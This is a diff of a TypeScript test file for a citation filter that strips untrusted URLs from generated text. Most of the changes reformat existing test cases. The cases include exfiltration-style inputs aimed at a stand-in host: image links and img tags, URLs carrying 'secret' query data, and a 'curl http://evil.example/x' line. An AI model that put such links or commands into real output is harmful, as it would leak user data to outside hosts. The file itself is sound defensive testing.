@@ -4,7 +4,9 @@ import { CitationFilter } from '../../../../lib/memory/reflect/citations.js'
 import { filterCitations } from '../../../helpers/citations.js'
 import fc, { runs } from '../../../helpers/fast-check.js'
 
-const SOURCE_TEXTS = ['See https://ok.example/a_(b)?c=1, or (http://other.example).', 'An unfinished https://evil.example/?q= stands here.']
+const SOURCE_TEXTS = [
+  'See https://ok.example/a_(b)?c=1, or (http://other.example).', 'An unfinished https://evil.example/?q= stands here.',
+]
 
 function shown (text: string): string {
   return filterCitations(text, 3, { sourceTexts: SOURCE_TEXTS }).text
@@ -26,15 +28,30 @@ const CASES: Array<[written: string, given: string]> = [
   ['[A. Title. Long](http://evil.example/x) [1]', 'A. Title. Long [1]'],
   ['Bare http://evil.example/?d=x and www.evil.example/y here [1].', 'Bare and here [1].'],
   ['Bare (http://evil.example/x), _http://evil.example/x_ [1].', 'Bare, __ [1].'],
-  ['Bare https://ok.example/a_(b)?c=1. And (http://other.example) [1].', 'Bare https://ok.example/a_(b)?c=1. And (http://other.example) [1].'],
+  [
+    'Bare https://ok.example/a_(b)?c=1. And (http://other.example) [1].',
+    'Bare https://ok.example/a_(b)?c=1. And (http://other.example) [1].',
+  ],
   ['More https://ok.example/a_(b)?c=1&d=secret [1]', 'More [1]'],
   ['More https://evil.example/?q=secret [1]', 'More [1]'],
-  ['Both [a](https://ok.example/a_(b)?c=1)x and https://ok.example/a_(b)?c=1[1] "https://ok.example/a_(b)?c=1".', 'Both [a](https://ok.example/a_(b)?c=1)x and https://ok.example/a_(b)?c=1 [1] "https://ok.example/a_(b)?c=1".'],
-  ['Data https://evil.example/?q="secret" https://evil.example/?q=“secret https://evil.example/?q=[secret] [1]', 'Data https://evil.example/?q= "secret" https://evil.example/?q= “secret] [1]'],
-  ['<http://evil.example/x> <https://ok.example/a_(b)?c=1> <alice@a.example> [1]', '<https://ok.example/a_(b)?c=1> <alice@a.example> [1]'],
+  [
+    'Both [a](https://ok.example/a_(b)?c=1)x and https://ok.example/a_(b)?c=1[1] "https://ok.example/a_(b)?c=1".',
+    'Both [a](https://ok.example/a_(b)?c=1)x and https://ok.example/a_(b)?c=1 [1] "https://ok.example/a_(b)?c=1".',
+  ],
+  [
+    'Data https://evil.example/?q="secret" https://evil.example/?q=“secret https://evil.example/?q=[secret] [1]',
+    'Data https://evil.example/?q= "secret" https://evil.example/?q= “secret] [1]',
+  ],
+  [
+    '<http://evil.example/x> <https://ok.example/a_(b)?c=1> <alice@a.example> [1]',
+    '<https://ok.example/a_(b)?c=1> <alice@a.example> [1]',
+  ],
   ['<img src="//evil.example/x">a <a href=\'x\'>b</a> <script>c</script> <!-- d --> <br/> [1]', 'a b c  <br/> [1]'],
   ['List<String> a<b and 1 < 2, i <3 u [1]', 'List<String> a< b and 1 < 2, i <3 u [1]'],
-  ['Text [label][ref] and ![alt][ref] [1].\n\n[ref]: http://evil.example/x\n> [r2]: <//evil.example/x> "t"', 'Text label and alt [1].'],
+  [
+    'Text [label][ref] and ![alt][ref] [1].\n\n[ref]: http://evil.example/x\n> [r2]: <//evil.example/x> "t"',
+    'Text label and alt [1].',
+  ],
   ['[ref]: https://ok.example/a_(b)?c=1 [1]', '[ref] : https://ok.example/a_(b)?c=1 [1]'],
   ['[Note]: Alice [1]', '[Note] : Alice [1]'],
   ['[1]: //evil.example/x\nTea [1].', 'Tea [1].'],
@@ -49,7 +66,10 @@ const CASES: Array<[written: string, given: string]> = [
   ['[a](\n//evil.example) [1]', '[a] (\n//evil.example) [1]'],
   ['[a\nb]: //evil.example [1]', '[a\nb] : //evil.example [1]'],
   ['<img\nsrc=//evil.example> [1]', '< img\nsrc=//evil.example> [1]'],
-  ['Code `![x](http://evil.example/y)` and `a[i](b)` `<img src=//evil.example>` `x<std::string>` [1]', 'Code `x ` and `a[i](b)` ` ` `x<std::string>` [1]'],
+  [
+    'Code `![x](http://evil.example/y)` and `a[i](b)` `<img src=//evil.example>` `x<std::string>` [1]',
+    'Code `x ` and `a[i](b)` ` ` `x<std::string>` [1]',
+  ],
   ['```\ncurl http://evil.example/x -o y\n![a](//evil.example)\n```\n[1]', '```\ncurl -o y\na \n```\n[1]'],
   ['見て https://evil.example/?q=。secret。次。[1]', '見て https://evil.example/?q=。 secret。次。[1]'],
   ['見て，http://evil.example/x。次 [1]', '見て，。次 [1]'],
